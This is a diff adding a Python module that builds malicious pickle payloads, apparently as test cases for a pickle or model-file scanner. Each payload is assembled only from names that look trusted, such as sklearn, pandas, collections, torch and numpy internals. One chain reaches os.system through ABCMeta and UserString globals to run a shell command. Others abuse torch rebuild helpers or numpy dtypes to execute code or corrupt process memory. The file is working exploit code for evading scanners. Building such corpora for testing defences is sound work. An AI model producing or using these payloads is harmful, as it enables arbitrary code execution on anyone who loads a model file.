@@ -1,0 +1,125 @@
+"""Attacks in which every name is one of honest models, and what runs is called by a name that the file gives it.
+
+Those that need torch are not loaded in the tests, which do without it; each was seen to run with torch 2.
+"""
+
+from __future__ import annotations
+
+from typing import Any, Final
+
+from .assembly import Attack, Call, Calls, Name, Payload, Raw, Result, built, new, of_calls, push
+from .gadgets import later
+
+_LOGISTIC: Final = "sklearn.linear_model._logistic:LogisticRegression"
+_CHAIN: Final = "collections:ChainMap"
+_OBJECTS: Final = 0b111111
+"""The flags of a dtype of objects."""
+
+
+def _posing(payload: Payload, name: str, **others: Any) -> Raw:
+    """An instance that runs the payload when its method of that name is called."""
+    return new(_LOGISTIC, state={**others, name: later(payload)})
+
+
+def _namespace(payload: Payload) -> Raw:
+    """A namespace whose state is a dict of a kind that is filled item by item."""
+    state = push(Call("collections:OrderedDict")) + push("__array__") + push(later(payload)) + b"s"
+    return built(Call("types:SimpleNamespace"), Raw(state))
+
+
+def _class_of_classes(payload: Payload) -> Raw:
+    """`type(type(ChainMap()))` is `ABCMeta`; with another `__call__`, calling a class gets whatever one asks for."""
+    noted = b"\x94"  # MEMOIZE
+    changed = b"h\x00" + b"N}" + push("__call__")
+
+    def asks(tool: bytes, *parts: bytes) -> bytes:
+        return changed + tool + b"s\x86b0" + push(Name(_CHAIN)) + b"(" + b"".join(parts) + b"tR" + noted
+
+    attribute, item = push(Name("builtins:getattr")), push(Name("operator:getitem"))
+    steps = [
+        push(Call("builtins:type", Call("builtins:type", Call(_CHAIN)))) + noted,
+        asks(attribute, push(Name("collections:UserString")), push("__init__")),
+        asks(attribute, b"h\x01", push("__globals__")),
+        asks(item, b"h\x02", push("_sys")),
+        asks(attribute, b"h\x03", push("modules")),
+        asks(item, b"h\x04", push("os")),
+        asks(attribute, b"h\x05", push("system")),
+        asks(b"h\x06", push(payload.shell)),
+    ]
+    return Raw(b"0".join(steps))
+
+
+def _bunch(**items: Any) -> Raw:
+    stored = b"".join(push(name) + push(item) + b"s" for name, item in items.items())
+    return Raw(push(new("sklearn.utils._bunch:Bunch")) + stored)
+
+
+def _dtype(code: str, flags: int, fields: Any = None) -> Raw:
+    names = tuple(fields) if fields else None
+    state = (3, "|", None, names, fields, 8 if fields else -1, 1 if fields else -1, flags)
+    return built(Call("numpy:dtype", code, False, True), state)
+
+
+def _elements(dtype: Raw) -> Call:
+    """Eight bytes of the file, taken for an element of that dtype."""
+    return Call("builtins:list", Call("numpy._core.numeric:_frombuffer", b"A" * 8, dtype, (1,), "C"))
+
+
+RUNS: Final[Calls] = {
+    "class of classes that calls what it is given": _class_of_classes,
+    "index of what answers as an array, by slots": lambda p: new(
+        "pandas:Index", built(Call("types:SimpleNamespace"), (None, {"__array__": later(p)}))
+    ),
+    "index of what answers as an array, by an ordered state": lambda p: new("pandas:Index", _namespace(p)),
+}
+"""What runs a payload when it is loaded."""
+
+NEEDS_MORE: Final[Calls] = {
+    "parameter of what detaches itself": lambda p: Call(
+        "torch._utils:_rebuild_parameter", _posing(p, "detach"), True, {}
+    ),
+    "optimiser whose state gets": lambda p: new(
+        "torch.optim.adam:Adam",
+        state={"defaults": {}, "param_groups": [{"params": [1]}], "state": _posing(p, "get")},
+    ),
+    "network whose names look themselves up": lambda p: new(
+        "torch.nn.modules.rnn:LSTM",
+        state={"_all_weights": [["x"]], "_flat_weights_names": _bunch(proj_size=1, index=later(p))},
+    ),
+    "nodes that convert themselves": lambda p: new(
+        "sklearn.ensemble._hist_gradient_boosting.predictor:TreePredictor",
+        state={"nodes": _posing(p, "astype", dtype=1)},
+    ),
+    "tensor rebuilt by a load": lambda p: Call(
+        "torch._tensor:_rebuild_from_type_v2",
+        Name("torch.storage:_load_from_bytes"),
+        Name("builtins:int"),
+        (p.pickle,),
+        {},
+    ),
+    "tensor rebuilt by what takes an attribute": lambda p: Call(
+        "torch._tensor:_rebuild_from_type_v2",
+        Name("builtins:getattr"),
+        Name("builtins:int"),
+        (Name(_LOGISTIC), "fit"),
+        {"__wrapped__": later(p)},
+    ),
+    "partial load that is called": lambda p: Result(
+        Call("functools:partial", Name("torch.storage:_load_from_bytes"), p.pickle)
+    ),
+    "attributes of attributes, reduced later": lambda p: Call(
+        "functools:partial",
+        Name("statistics:reduce"),
+        Name("builtins:getattr"),
+        [Name(_LOGISTIC), "fit", "__globals__"],
+    ),
+    "bytes that are pointers": lambda p: _elements(_dtype("O8", 0)),
+    "numbers that are objects": lambda p: _elements(_dtype("f8", _OBJECTS)),
+    "field of bytes that are pointers": lambda p: _elements(_dtype("V8", 0, {"a": (_dtype("O8", _OBJECTS), 0)})),
+}
+"""What runs a payload or breaks the memory of a process that has torch, or reads what was loaded."""
+
+
+def attacks() -> list[Attack]:
+    """One file for each."""
+    return [*of_calls("answers", RUNS), *of_calls("answers", NEEDS_MORE, loader="")]
